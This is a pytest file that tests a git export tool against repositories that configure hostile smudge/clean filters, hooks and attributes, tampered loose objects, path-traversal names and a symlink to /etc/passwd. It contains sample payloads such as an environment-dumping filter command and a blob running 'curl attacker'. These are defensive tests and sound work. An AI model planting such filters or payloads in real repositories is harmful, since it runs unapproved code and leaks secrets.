"""Git runs nothing the repository configures, and the export is exactly the signed commit.

A repository's own ``.git/`` is attacker-controlled with no new commit at all: a smudge filter selected by
``.git/info/attributes`` made ``git archive`` run a command with the flow's environment and train code no signed
commit contains. Here the same trap is set (and shown to be live with plain git), then the commit gate and the export
run and nothing fires.
"""

from __future__ import annotations

import os
import subprocess
import zlib
from pathlib import Path

import pytest

from airlock import gitutil
from airlock.gitutil import GitError
from gates import commit
from tests.conftest import git


def _trap(repo: Path, marker: Path) -> None:
    """Every command-running hook git offers a repository, each appending its name and environment to marker."""
    run = lambda name: f'sh -c "echo {name} >> {marker}; env >> {marker}; cat"'  # noqa: E731
    for key, value in (
        ("filter.evil.smudge", run("smudge")),
        ("filter.evil.clean", run("clean")),
        ("filter.evil.process", run("process")),
        ("filter.evil.required", "true"),
        ("diff.evil.textconv", run("textconv")),
        ("core.fsmonitor", run("fsmonitor")),
        ("core.pager", run("pager")),
        ("gpg.ssh.program", run("sshprogram")),
    ):
        git(repo, "config", key, value)
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil export-subst\n")
    for hook in ("post-checkout", "pre-commit", "reference-transaction", "post-index-change"):
        h = repo / ".git" / "hooks" / hook
        h.parent.mkdir(exist_ok=True)
        h.write_text(f"#!/bin/sh\necho hook-{hook} >> {marker}\n")
        h.chmod(0o755)


def test_repo_config_filters_hooks_and_attributes_run_nothing(repo, keys, tmp_path, monkeypatch):
    marker = tmp_path / "marker"
    _trap(repo, marker)
    # The trap is live: plain git (even with global/system config off) runs the repository's filter on archive,
    # with whatever environment git was given.
    subprocess.run(
        ["git", "-C", str(repo), "archive", "HEAD"],
        env={
            "PATH": os.environ["PATH"],
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_CONFIG_GLOBAL": "/dev/null",
            "AIRLOCK_SIGNING_KEY": "/k",
        },
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    fired = marker.read_text()
    assert "process" in fired and "AIRLOCK_SIGNING_KEY=/k" in fired
    marker.unlink()

    monkeypatch.setenv("AIRLOCK_SIGNING_KEY", "/keys/model_signing.key")  # what the flow holds
    monkeypatch.setenv("PREFECT_API_KEY", "pnu_secret")
    for f in repo.rglob("*.py"):
        os.utime(f, (1, 1))  # stale stat info: git status must re-read (and would clean-filter) them
    r = commit.check(repo, keys.allowed_signers)
    assert r.passed, r.reason
    dest = tmp_path / "export"
    n = gitutil.export_commit(repo, r.evidence["commit"], dest)
    assert not marker.exists(), marker.read_text()[:500]

    # The export is byte for byte the commit's blobs (no smudge, no export-subst), and nothing else.
    listed = git(repo, "ls-tree", "-r", "--name-only", "HEAD").stdout.split()
    assert n == len(listed)
    assert sorted(str(p.relative_to(dest)) for p in dest.rglob("*") if p.is_file()) == sorted(listed)
    for name in listed:
        blob = subprocess.run(
            ["git", "-C", str(repo), "cat-file", "blob", f"HEAD:{name}"],
            capture_output=True,
            env={"PATH": os.environ["PATH"]},
            check=True,
        ).stdout
        assert (dest / name).read_bytes() == blob, name


def test_git_gets_an_allowlisted_environment(monkeypatch):
    monkeypatch.setenv("AIRLOCK_SIGNING_KEY", "/keys/model_signing.key")
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_secret")
    env = gitutil.isolated_env()
    assert "AIRLOCK_SIGNING_KEY" not in env and "GITHUB_TOKEN" not in env
    assert env["GIT_CONFIG_GLOBAL"] == "/dev/null" and env["GIT_CONFIG_NOSYSTEM"] == "1"
    assert set(env) <= {
        "PATH",
        "TZ",
        "GIT_CONFIG_GLOBAL",
        "GIT_CONFIG_NOSYSTEM",
        "GIT_TERMINAL_PROMPT",
        "GIT_OPTIONAL_LOCKS",
        "LC_ALL",
        "HOME",
        "GIT_ATTR_NOSYSTEM",
        "GNUPGHOME",
    }


def test_a_blob_altered_in_the_object_store_is_refused(repo, tmp_path):
    """A loose object rewritten on disk (git reads it back without checking): the export re-hashes every blob."""
    oid = git(repo, "rev-parse", "HEAD:training/train.py").stdout.strip()
    obj = repo / ".git" / "objects" / oid[:2] / oid[2:]
    evil = b"import os; os.system('curl attacker')\n"
    obj.chmod(0o644)
    obj.write_bytes(zlib.compress(b"blob %d\0" % len(evil) + evil))
    with pytest.raises(GitError) as e:
        gitutil.export_commit(repo, "HEAD", tmp_path / "export")
    assert "does not hash to its id" in e.value.one_line() and "training/train.py" in e.value.one_line()


@pytest.mark.parametrize(
    "name", [b"../escape.py", b".git/config", b"pkg/.GIT/hooks/x", b"a\nb", b"/abs", b"a//b", b"./a", b"bad\x7fname"]
)
def test_unsafe_tree_paths_are_refused(name):
    with pytest.raises(GitError, match="cannot be exported safely"):
        gitutil._safe_path(name)


def test_a_symlink_out_of_the_repository_is_refused(repo, keys, tmp_path):
    from tests.conftest import commit as signed_commit

    (repo / "training" / "data.lnk").symlink_to("/etc/passwd")
    sha = signed_commit(repo, "link", keys.key("dev"))
    with pytest.raises(GitError, match="symlink out of the repository"):
        gitutil.export_commit(repo, sha, tmp_path / "export")
